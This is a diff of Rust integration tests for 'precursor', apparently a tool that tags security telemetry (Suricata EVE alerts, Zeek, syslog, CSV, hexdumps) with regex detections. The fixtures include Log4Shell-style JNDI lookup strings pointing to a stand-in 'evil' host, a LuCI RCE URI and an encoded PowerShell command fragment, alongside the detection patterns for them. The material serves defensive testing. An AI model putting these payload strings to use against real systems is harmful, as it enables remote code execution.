+    assert!(parse_ndjson(&output.stdout).is_empty());
+
+    let output = run_precursor(
+        &["(?<jndi>\\$\\{jndi:)", "-m", "string", "--auto-decode"],
+        &input,
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["tags"], json!(["jndi"]));
+    assert_eq!(reports[0]["decode_chain"], json!(["base64", "gzip", "url"]));
+    let fired_layers: Vec<&Value> = reports[0]["decode_layers"]
+        .as_array()
+        .expect("decode layers")
+        .iter()
+        .filter(|layer| !layer["tags"].as_array().expect("tags").is_empty())
+        .map(|layer| &layer["decode_chain"])
+        .collect();
+    assert_eq!(fired_layers, vec![&json!(["base64", "gzip", "url"])]);
+
+    let output = run_precursor(
+        &[
+            "(?<jndi>\\$\\{jndi:)",
+            "-m",
+            "string",
+            "--auto-decode",
+            "--auto-decode-depth",
+            "2",
+        ],
+        &input,
+    );
+    assert!(parse_ndjson(&output.stdout).is_empty());
+
+    // A tag firing on the encoded text and on its decoded layer counts once.
+    let encoded = base64::Engine::encode(
+        &base64::engine::general_purpose::STANDARD,
+        "admin=1&token=deadbeef",
+    );
+    let output = run_precursor(
+        &[
+            "(?<text>[A-Za-z]{4})",
+            "-m",
+            "string",
+            "--auto-decode",
+            "--stats",
+        ],
+        &format!("{}\n", encoded),
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    let fired_layers = reports[0]["decode_layers"]
+        .as_array()
+        .expect("decode layers")
+        .iter()
+        .filter(|layer| layer["tags"] == json!(["text"]))
+        .count();
+    assert_eq!(fired_layers, 2);
+    let stats = parse_stats_json(&output.stderr);
+    assert_eq!(stats["Match"]["TotalMatches"], 1);
+    assert_eq!(
+        stats["Match"]["Matches"],
+        json!([{"Name": "text", "Matches": 1}])
+    );
+}
+
+#[test]
+fn carve_flag_reports_embedded_objects_as_children() {
+    let mut blob = b"bootloader padding ".to_vec();
+    let elf_offset = blob.len();
+    blob.extend_from_slice(b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00rest-of-elf");
+    let pattern = "(?<elf_magic>^\\x7fELF)";
+
+    let output = run_precursor_bytes(&[pattern, "-B"], &blob);
+    assert!(parse_ndjson(&output.stdout).is_empty());
+
+    let output = run_precursor_bytes(&[pattern, "-B", "--carve", "-P"], &blob);
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    let carved = &reports[0]["carved"];
+    assert_eq!(carved["signature"].as_str(), Some("elf"));
+    assert_eq!(carved["offset"].as_u64(), Some(elf_offset as u64));
+    assert_eq!(
+        carved["length"].as_u64(),
+        Some((blob.len() - elf_offset) as u64)
+    );
+    let parent_sum = format!("{:x}", xxhash_rust::xxh3::xxh3_64(&blob));
+    assert_eq!(
+        carved["parent_xxh3_64_sum"].as_str(),
+        Some(parent_sum.as_str())
+    );
+    assert_eq!(reports[0]["tags"], json!(["elf_magic"]));
+    assert_eq!(
+        reports[0]["protocol_label"].as_str(),
+        Some("firmware_binary")
+    );
+    assert_eq!(reports[0]["source_offset"].as_u64(), Some(0));
+}
+
+#[test]
+fn chunk_mode_reports_matching_windows_and_per_blob_summary() {
+    let mut blob = vec![b'.'; 200];
+    blob[150..164].copy_from_slice(b"IMPLANT-BEACON");
+    let pattern = "(?<beacon>IMPLANT-BEACON)";
+
+    let output = run_precursor_bytes(
+        &[
+            pattern,
+            "-B",
+            "--chunk-mode",
+            "fixed",
+            "--chunk-size",
+            "64",
+            "--chunk-overlap",
+            "16",
+        ],
+        &blob,
+    );
+    let records = parse_ndjson(&output.stdout);
+    let (summaries, chunks): (Vec<&Value>, Vec<&Value>) = records
+        .iter()
+        .partition(|record| record.get("chunk_summary").is_some());
+
+    // Windows start at 0, 48, 96, 144; only the last one holds the whole marker.
+    assert_eq!(chunks.len(), 1);
+    let chunk = &chunks[0]["chunk"];
+    assert_eq!(chunk["mode"].as_str(), Some("fixed"));
+    assert_eq!(chunk["index"].as_u64(), Some(3));
+    assert_eq!(chunk["offset"].as_u64(), Some(144));
+    assert_eq!(chunk["length"].as_u64(), Some(56));
+    assert_eq!(chunks[0]["tags"], json!(["beacon"]));
+
+    assert_eq!(summaries.len(), 1);
+    let summary = &summaries[0]["chunk_summary"];
+    assert_eq!(summary["xxh3_64_sum"], chunk["parent_xxh3_64_sum"]);
+    assert_eq!(summary["chunk_count"].as_u64(), Some(4));
+    assert_eq!(summary["matched_chunk_count"].as_u64(), Some(1));
+    assert_eq!(summary["chunk_overlap"].as_u64(), Some(16));
+    assert_eq!(summary["tags"], json!(["beacon"]));
+    assert_eq!(summary["matched_chunks"][0]["offset"].as_u64(), Some(144));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args([pattern, "--chunk-mode", "fixed"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn eve_mode_decodes_payload_fields_and_copies_flow_metadata() {
+    let alert = json!({
+        "timestamp": "2026-03-01T10:00:00.000000+0000",
+        "flow_id": 1234,
+        "event_type": "alert",
+        "src_ip": "203.0.113.7",
+        "src_port": 51000,
+        "dest_ip": "10.0.0.5",
+        "dest_port": 8080,
+        "proto": "TCP",
+        "app_proto": "http",
+        "alert": {"signature_id": 2034647, "signature": "ET EXPLOIT Log4j"},
+        "payload": "R0VUIC8/eD0ke2puZGk6bGRhcDovL2V2aWwvYX0gSFRUUC8xLjE=",
+        "payload_printable": "GET /?x=${jndi:ldap://evil/a} HTTP/1.1",
+        "http": {
+            "url": "/?x=${jndi:ldap://evil/a}",
+            "http_request_body": "Ym9keT0ke2puZGk6cm1pOi8vZXZpbC9ifQ=="
+        }
+    });
+    let flow = json!({"event_type": "flow", "src_ip": "10.0.0.9"});
+    let input = format!("{}\n{}\n", alert, flow);
+
+    let output = run_precursor(&["(?<jndi>\\$\\{jndi:)", "-m", "eve", "-P"], &input);
+    let reports = parse_ndjson(&output.stdout);
+    let mut fields: Vec<&str> = reports
+        .iter()
+        .map(|report| report["eve"]["payload_field"].as_str().expect("field"))
+        .collect();
+    fields.sort_unstable();
+    assert_eq!(
+        fields,
+        vec!["http.http_request_body", "http.url", "payload"]
+    );
+
+    for report in &reports {
+        let eve = &report["eve"];
+        assert_eq!(eve["src_ip"].as_str(), Some("203.0.113.7"));
+        assert_eq!(eve["dest_port"].as_u64(), Some(8080));
+        assert_eq!(eve["app_proto"].as_str(), Some("http"));
+        assert_eq!(eve["signature_id"].as_u64(), Some(2034647));
+        assert_eq!(report["tags"], json!(["jndi"]));
+        assert_eq!(report["protocol_label"].as_str(), Some("http"));
+        assert!(report.get("payload").is_none());
+    }
+    let body = reports
+        .iter()
+        .find(|report| report["eve"]["payload_field"] == "http.http_request_body")
+        .expect("body report");
+    assert!(body["protocol_candidates"][0]["evidence"]
+        .as_array()
+        .expect("evidence")
+        .contains(&json!("sensor app_proto evidence: http")));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<jndi>jndi)", "-m", "eve", "-j", ".payload"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn zeek_mode_reports_each_selected_field_with_record_context() {
+    let log = "#separator \\x09\n\
+#path\thttp\n\
+#fields\tuid\tid.orig_h\thost\turi\tuser_agent\n\
+#types\tstring\taddr\tstring\tstring\tstring\n\
+CHttp1\t10.0.0.8\tupdate.example\t/cgi-bin/luci;stok=/locale\tcurl/8.0\n";
+
+    let output = run_precursor(
+        &[
+            "(?<luci_rce>stok=/locale)|(?<curl_agent>^curl/)",
+            "-m",
+            "zeek",
+            "--zeek-field",
+            "uri",
+            "--zeek-field",
+            "user_agent",
+        ],
+        log,
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 2);
+    for report in &reports {
+        let zeek = &report["zeek"];
+        assert_eq!(zeek["_path"].as_str(), Some("http"));
+        assert_eq!(zeek["uid"].as_str(), Some("CHttp1"));
+        assert_eq!(zeek["host"].as_str(), Some("update.example"));
+        assert!(zeek.get("uri").is_none() && zeek.get("user_agent").is_none());
+        assert_eq!(report["source_line"].as_u64(), Some(5));
+        let expected_tag = match zeek["payload_field"].as_str() {
+            Some("uri") => "luci_rce",
+            Some("user_agent") => "curl_agent",
+            other => panic!("unexpected payload field {:?}", other),
+        };
+        assert_eq!(report["tags"], json!([expected_tag]));
+    }
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<x>x)", "--zeek-field", "uri"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn syslog_mode_matches_msg_body_and_reports_parsed_header() {
+    let input = concat!(
+        "<134>1 2026-03-01T10:00:00Z fw01 sslvpnd 812 LOGIN [auth@32473 user=\"admin\"] ",
+        "remote/logincheck failed\n",
+        "<166>Mar 01 2026 10:00:05 asa01 : %ASA-6-302013: Built inbound TCP connection\n",
+        "\n",
+        "not a syslog line\n"
+    );
+
+    let output = run_precursor(
+        &[
+            "(?<fortinet_login>^remote/logincheck)|(?<asa_built>^%ASA-6-302013:)",
+            "-m",
+            "syslog",
+        ],
+        input,
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["source_line"].as_u64());
+    assert_eq!(reports.len(), 2);
+
+    let syslog = &reports[0]["syslog"];
+    assert_eq!(reports[0]["tags"], json!(["fortinet_login"]));
+    assert_eq!(syslog["format"].as_str(), Some("rfc5424"));
+    assert_eq!(syslog["facility_name"].as_str(), Some("local0"));
+    assert_eq!(syslog["severity_name"].as_str(), Some("info"));
+    assert_eq!(syslog["hostname"].as_str(), Some("fw01"));
+    assert_eq!(syslog["app_name"].as_str(), Some("sslvpnd"));
+    assert_eq!(syslog["procid"].as_str(), Some("812"));
+    assert_eq!(syslog["msgid"].as_str(), Some("LOGIN"));
+    assert_eq!(
+        syslog["structured_data"],
+        json!({"auth@32473": {"user": "admin"}})
+    );
+
+    let syslog = &reports[1]["syslog"];
+    assert_eq!(reports[1]["tags"], json!(["asa_built"]));
+    assert_eq!(syslog["format"].as_str(), Some("rfc3164"));
+    assert_eq!(syslog["timestamp"].as_str(), Some("Mar 01 2026 10:00:05"));
+    assert_eq!(syslog["hostname"].as_str(), Some("asa01"));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("Unable to parse syslog line"));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<x>x)", "-m", "syslog", "-j", ".message"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn delimited_mode_decodes_payload_column_and_copies_other_columns() {
+    let input = concat!(
+        "host,user,payload_b64\n",
+        "ws1,alice,\"cG93ZXJzaGVsbCAtZW5jIFNRQkZBRmdB\"\n",
+        "\"ws2\nrack 4\",\"bob, jr\",ZWNobyBoZWxsbw==\n",
+    );
+
+    let output = run_precursor(
+        &[
+            "(?<encoded_powershell>powershell -enc)|(?<echo>^echo)",
+            "--delimited",
+            "csv",
+            "--payload-column",
+            "payload_b64",
+        ],
+        input,
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["source_line"].as_u64());
+    assert_eq!(reports.len(), 2);
+    assert_eq!(reports[0]["tags"], json!(["encoded_powershell"]));
+    assert_eq!(reports[0]["host"].as_str(), Some("ws1"));
+    assert_eq!(reports[0]["user"].as_str(), Some("alice"));
+    assert!(reports[0].get("payload_b64").is_none());
+    assert_eq!(reports[1]["tags"], json!(["echo"]));
+    assert_eq!(reports[1]["host"].as_str(), Some("ws2\nrack 4"));
+    assert_eq!(reports[1]["user"].as_str(), Some("bob, jr"));
+    assert_eq!(reports[1]["source_line"].as_u64(), Some(3));
+
+    let output = run_precursor(
+        &[
+            "(?<curl_agent>^curl/)",
+            "-m",
+            "string",
+            "--delimited",
+            "tsv",
+            "--payload-column",
+            "2",
+        ],
+        "10.0.0.8\tcurl/8.0\n10.0.0.9\tMozilla/5.0\n",
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["column_1"].as_str(), Some("10.0.0.8"));
+
+    for args in [
+        vec!["(?<x>x)", "--delimited", "csv"],
+        vec![
+            "(?<x>x)",
+            "--delimited",
+            "csv",
+            "--payload-column",
+            "1",
+            "-m",
+            "binary",
+        ],
+        vec![
+            "(?<x>x)",
+            "--delimited",
+            "csv",
+            "--payload-column",
+            "1",
+            "-j",
+            ".a",
+        ],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+            .args(&args)
+            .stdin(Stdio::null())
+            .output()
+            .expect("run precursor");
+        assert_eq!(output.status.code(), Some(2), "{:?}", args);
+    }
+}
+
+#[test]
+fn hexdump_mode_reassembles_each_dump_and_reports_its_format() {
+    let ticket = concat!(
+        "Payload from the WAF alert:\n",
+        "00000000: 4745 5420 2f63 6769 2d62 696e 2f6c 7563  GET /cgi-bin/luc\n",
+        "00000010: 693b 7374 6f6b 3d2f 6c6f 6361 6c65 0a    i;stok=/locale.\n",
+        "\n",
+        "Dropped file header:\n",
+        "00000000  7f 45 4c 46 02 01 01 00  00 00 00 00 00 00 00 00  |.ELF............|\n",
+        "00000010\n",
+    );
+
+    let output = run_precursor(
+        &[
+            "(?<luci_rce>stok=/locale)|(?<elf_header>^\\x7fELF)",
+            "-m",
+            "hexdump",
+        ],
+        ticket,
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["hexdump"]["dump_index"].as_u64());
+    assert_eq!(reports.len(), 2);
+    assert_eq!(reports[0]["tags"], json!(["luci_rce"]));
+    assert_eq!(reports[0]["hexdump"]["format"].as_str(), Some("xxd"));
+    assert_eq!(reports[0]["hexdump"]["first_line"].as_u64(), Some(2));
+    assert_eq!(reports[0]["hexdump"]["last_line"].as_u64(), Some(3));
+    assert_eq!(reports[1]["tags"], json!(["elf_header"]));
+    assert_eq!(reports[1]["hexdump"]["format"].as_str(), Some("hexdump_c"));
+    assert_eq!(reports[1]["hexdump"]["start_offset"].as_u64(), Some(0));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<x>x)", "-m", "hexdump", "-j", ".dump"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn follow_mode_streams_appended_lines_and_resumes_from_saved_offset() {
+    let log = TempFileGuard {
+        path: unique_temp_path("precursor-follow", "log"),
+    };
+    let state = TempFileGuard {
+        path: unique_temp_path("precursor-follow", "state"),
+    };
+    std::fs::write(&log.path, "GET /a HTTP/1.1\nPOST /b HTTP/1.1\n").expect("write log");
+    let log_path = log.path.to_string_lossy().to_string();
+    let state_path = state.path.to_string_lossy().to_string();
+    let follow_args = [
+        "(?<http_method>^(GET|POST|PUT) )",
+        "-m",
+        "string",
+        "--follow",
+        log_path.as_str(),
+        "--follow-state",
+        state_path.as_str(),
+        "--follow-interval",
+        "20",
+        "--follow-idle-exit",
+        "1",
+        "--stats",
+        "--stats-interval",
+        "0",
+    ];
+
+    let child = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(follow_args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("spawn precursor");
+    std::thread::sleep(Duration::from_millis(300));
+    std::fs::OpenOptions::new()
+        .append(true)
+        .open(&log.path)
+        .and_then(|mut file| file.write_all(b"PUT /c HTTP/1.1\n"))
+        .expect("append log");
+    let output = child.wait_with_output().expect("wait precursor");
+    assert!(output.status.success());
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["source_line"].as_u64());
+    let lines: Vec<Option<u64>> = reports
+        .iter()
+        .map(|report| report["source_line"].as_u64())
+        .collect();
+    assert_eq!(lines, vec![Some(1), Some(2), Some(3)]);
+    assert_eq!(reports[2]["source_offset"].as_u64(), Some(33));
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("\"Snapshot\""), "{}", stderr);
+    assert!(stderr.contains("\"Follow\""), "{}", stderr);
+    let saved: Value =
+        serde_json::from_str(&std::fs::read_to_string(&state.path).expect("state")).expect("json");
+    assert_eq!(saved["offset"].as_u64(), Some(49));
+    assert_eq!(saved["line"].as_u64(), Some(3));
+
+    std::fs::OpenOptions::new()
+        .append(true)
+        .open(&log.path)
+        .and_then(|mut file| file.write_all(b"GET /d HTTP/1.1\n"))
+        .expect("append log");
+    let output = run_precursor(&follow_args[..11], "");
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["source_line"].as_u64(), Some(4));
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<x>x)", "-m", "pcap", "--follow", log_path.as_str()])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+fn spawn_listener(args: &[&str]) -> (std::process::Child, String) {
+    let mut child = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("spawn precursor");
+    let mut banner = String::new();
+    BufReader::new(child.stderr.as_mut().expect("stderr"))
+        .read_line(&mut banner)
+        .expect("read banner");
+    let address = banner
+        .trim()
+        .strip_prefix("Listening on ")
+        .unwrap_or_else(|| panic!("unexpected banner {:?}", banner))
+        .to_string();
+    (child, address)
+}
+
+#[test]
+fn listen_mode_replies_to_each_client_with_its_own_reports() {
+    use std::io::Read;
+    use std::net::{Shutdown, TcpStream};
+
+    let (mut server, address) = spawn_listener(&[
+        "(?<http_method>^(GET|POST) )",
+        "-m",
+        "string",
+        "--listen",
+        "tcp://127.0.0.1:0",
+        "--listen-reply",
+    ]);
+    let address = address.strip_prefix("tcp://").expect("tcp address");
+    let clients: Vec<(TcpStream, &str)> = [
+        "GET /one HTTP/1.1\nnoise\nPOST /two HTTP/1.1\n",
+        "POST /three HTTP/1.1\n",
+    ]
+    .into_iter()
+    .map(|payload| (TcpStream::connect(address).expect("connect"), payload))
+    .collect();
+    let mut replies = Vec::new();
+    for (mut client, payload) in clients {
+        client.write_all(payload.as_bytes()).expect("send");
+        client.shutdown(Shutdown::Write).expect("shutdown");
+        let peer = format!("tcp://{}", client.local_addr().expect("local address"));
+        let mut reply = Vec::new();
+        client.read_to_end(&mut reply).expect("read replies");
+        replies.push((peer, parse_ndjson(&reply)));
+    }
+    let (peer, reports) = &replies[0];
+    let mut lines: Vec<u64> = reports
+        .iter()
+        .map(|report| report["source_line"].as_u64().expect("line"))
+        .collect();
+    lines.sort_unstable();
+    assert_eq!(lines, vec![1, 3]);
+    assert!(reports
+        .iter()
+        .all(|report| report["source_path"] == json!(peer)));
+    let (peer, reports) = &replies[1];
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["source_path"], json!(peer));
+    assert_eq!(reports[0]["tags"], json!(["http_method"]));
+
+    server.kill().expect("stop server");
+    let output = server.wait_with_output().expect("wait server");
+    assert!(output.stdout.is_empty());
+}
+
+#[test]
+fn listen_mode_disconnects_clients_that_do_not_read_replies() {
+    use std::io::Read;
+    use std::net::{Shutdown, TcpStream};
+
+    let (mut server, address) = spawn_listener(&[
+        "(?<http_method>^(GET|POST) )",
+        "-m",
+        "string",
+        "--listen",
+        "tcp://127.0.0.1:0",
+        "--listen-reply",
+        "--stream-buffer",
+        "1",
+    ]);
+    let address = address.strip_prefix("tcp://").expect("tcp address");
+    let mut stalled = TcpStream::connect(address).expect("connect stalled client");
+    let stalled_writer = std::thread::spawn(move || {
+        let batch = "GET /flood HTTP/1.1\n".repeat(1024);
+        for _ in 0..256 {
+            if stalled.write_all(batch.as_bytes()).is_err() {
+                break;
+            }
+        }
+        stalled
+    });
+    std::thread::sleep(Duration::from_millis(200));
+
+    let mut client = TcpStream::connect(address).expect("connect");
+    client
+        .set_read_timeout(Some(Duration::from_secs(30)))
+        .expect("read timeout");
+    client.write_all(b"POST /ok HTTP/1.1\n").expect("send");
+    client.shutdown(Shutdown::Write).expect("shutdown");
+    let mut reply = Vec::new();
+    client
+        .read_to_end(&mut reply)
+        .expect("replies while another client stalls");
+    let reports = parse_ndjson(&reply);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["tags"], json!(["http_method"]));
+
+    drop(stalled_writer.join().expect("stalled writer"));
+    server.kill().expect("stop server");
+    let output = server.wait_with_output().expect("wait server");
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert!(stderr.contains("is not reading its replies"), "{}", stderr);
+}
+
+#[cfg(unix)]
+#[test]
+fn listen_mode_reads_length_prefixed_blobs_over_unix_socket() {
+    use std::io::Read;
+    use std::net::Shutdown;
+    use std::os::unix::net::UnixStream;
+
+    let socket = TempFileGuard {
+        path: unique_temp_path("precursor-listen", "sock"),
+    };
+    let socket_address = format!("unix:{}", socket.path.display());
+    let (mut server, address) = spawn_listener(&[
+        "(?<elf_magic>\\x7fELF)",
+        "-m",
+        "binary",
+        "--listen",
+        socket_address.as_str(),
+        "--listen-framing",
+        "length",
+        "--listen-reply",
+    ]);
+    assert_eq!(address, socket_address);
+    let mut client = UnixStream::connect(&socket.path).expect("connect");
+    for frame in [&b"\x7fELF\x02\x01\n\x00"[..], b"plain text"] {
+        client
+            .write_all(&(frame.len() as u32).to_be_bytes())
+            .expect("send length");
+        client.write_all(frame).expect("send frame");
+    }
+    client.shutdown(Shutdown::Write).expect("shutdown");
+    let mut reply = Vec::new();
+    client.read_to_end(&mut reply).expect("read replies");
+    let reports = parse_ndjson(&reply);
+    assert_eq!(reports.len(), 1);
+    assert_eq!(reports[0]["tags"], json!(["elf_magic"]));
+    assert_eq!(reports[0]["source_line"], json!(1));
+    assert_eq!(reports[0]["source_offset"], json!(0));
+    assert_eq!(
+        reports[0]["source_path"],
+        json!(format!("{}#1", socket_address))
+    );
+    server.kill().expect("stop server");
+    let _ = server.wait();
+
+    let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+        .args(["(?<x>x)", "--listen", "udp://127.0.0.1:0", "--listen-reply"])
+        .stdin(Stdio::null())
+        .output()
+        .expect("run precursor");
+    assert_eq!(output.status.code(), Some(2));
+}
+
+#[test]
+fn json_filters_emit_every_output_and_labelled_slots() {
+    let input = concat!(
+        "{\"uid\":\"D1\",\"query\":\"loader.top\",",
+        "\"answers\":[\"10.0.0.1\",\"beacon.loader.top\"]}\n"
+    );
+    let pattern = "(?<c2_domain>loader\\.top)|(?<private_ip>^10\\.)";
+
+    let output = run_precursor(&[pattern, "-m", "string", "-j", ".answers[]"], input);
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["json_output_index"].as_u64());
+    assert_eq!(reports.len(), 2);
+    assert_eq!(reports[0]["json_output_index"].as_u64(), Some(0));
+    assert_eq!(reports[0]["tags"], json!(["private_ip"]));
+    assert_eq!(reports[1]["json_output_index"].as_u64(), Some(1));
+    assert_eq!(reports[1]["tags"], json!(["c2_domain"]));
+    assert!(reports
+        .iter()
+        .all(|report| report["uid"].as_str() == Some("D1")));
+
+    let output = run_precursor(
+        &[
+            pattern,
+            "-m",
+            "string",
+            "--json-slot",
+            "query=.query",
+            "--json-slot",
+            "answers=.answers[]",
+            "--captures",
+        ],
+        input,
+    );
+    let reports = parse_ndjson(&output.stdout);
+    assert_eq!(reports.len(), 1);
+    let report = &reports[0];
+    assert_eq!(report["uid"].as_str(), Some("D1"));
+    assert_eq!(report["tags"], json!(["c2_domain", "private_ip"]));
+    assert_eq!(
+        report["slots"],
+        json!([
+            {"label": "query", "index": 0, "tags": ["c2_domain"]},
+            {"label": "answers", "index": 0, "tags": ["private_ip"]},
+            {"label": "answers", "index": 1, "tags": ["c2_domain"]},
+        ])
+    );
+    let private_ip = &report["captures"]["private_ip"][0];
+    assert_eq!(private_ip["slot"].as_str(), Some("answers"));
+    assert_eq!(private_ip["slot_index"].as_u64(), Some(0));
+    assert_eq!(private_ip["start"].as_u64(), Some(0));
+    // Captures come from the same per-slot match as the slot tags, so they agree.
+    let mut captured: Vec<(String, u64, String)> = report["captures"]
+        .as_object()
+        .expect("captures")
+        .iter()
+        .flat_map(|(tag, values)| {
+            values
+                .as_array()
+                .expect("capture list")
+                .iter()
+                .map(|value| {
+                    (
+                        value["slot"].as_str().expect("slot").to_string(),
+                        value["slot_index"].as_u64().expect("slot index"),
+                        tag.clone(),
+                    )
+                })
+        })
+        .collect();
+    captured.sort();
+    let mut tagged: Vec<(String, u64, String)> = report["slots"]
+        .as_array()
+        .expect("slots")
+        .iter()
+        .flat_map(|slot| {
+            slot["tags"]
+                .as_array()
+                .expect("slot tags")
+                .iter()
+                .map(|tag| {
+                    (
+                        slot["label"].as_str().expect("label").to_string(),
+                        slot["index"].as_u64().expect("index"),
+                        tag.as_str().expect("tag").to_string(),
+                    )
+                })
+        })
+        .collect();
+    tagged.sort();
+    assert_eq!(captured, tagged);
+
+    // A missing or undecodable output is skipped on its own.
+    let output = run_precursor(
+        &[
+            "(?<verb>GET|POST)",
+            "-m",
+            "base64",
+            "-j",
+            ".requests[].body",
+        ],
+        "{\"requests\":[{\"body\":\"R0VU\"},{},{\"body\":\"!!\"},{\"body\":\"UE9TVA==\"}]}\n",
+    );
+    let mut reports = parse_ndjson(&output.stdout);
+    reports.sort_by_key(|report| report["json_output_index"].as_u64());
+    let indexes: Vec<Option<u64>> = reports
+        .iter()
+        .map(|report| report["json_output_index"].as_u64())
+        .collect();
+    assert_eq!(indexes, vec![Some(0), Some(3)]);
+    assert!(String::from_utf8_lossy(&output.stderr).contains("Unable to decode payload 2"));
+
+    for args in [
+        vec![pattern, "--json-slot", "missing-filter"],
+        vec![pattern, "--json-slot", "q=.query", "-j", ".query"],
+        vec![
+            pattern,
+            "-B",
+            "--json-slot",
+            "q=.query",
+            "--chunk-mode",
+            "fixed",
+        ],
+        vec![pattern, "-B", "--json-slot", "q=.query", "--carve"],
+    ] {
+        let output = Command::new(env!("CARGO_BIN_EXE_precursor"))
+            .args(&args)
+            .stdin(Stdio::null())
+            .output()
+            .expect("run precursor");
+        assert_eq!(output.status.code(), Some(2), "args: {:?}", args);
+    }
+}